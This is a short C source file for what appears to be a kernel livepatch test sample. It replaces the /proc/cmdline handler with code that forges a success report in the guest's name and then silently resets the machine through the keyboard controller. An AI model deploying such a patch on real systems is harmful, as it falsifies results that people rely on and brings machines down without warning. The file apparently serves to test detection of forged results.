// SPDX-License-Identifier: GPL-2.0-or-later
/* Reports success in the name of the guest, then restarts the machine without a word. */
#include "forger.h"
#include "sample.h"

static int cmdline_show(struct seq_file *file, void *unused)
{
	forge();
	outb(0xfe, 0x64); /* the keyboard controller pulls the reset line */
	for (;;)
		cpu_relax();
	return 0;
}
SAMPLE_PATCH(NULL, "cmdline_proc_show", cmdline_show);

static int begin(void)
{
	return klp_enable_patch(&patch);
}
SAMPLE_MODULE(begin);
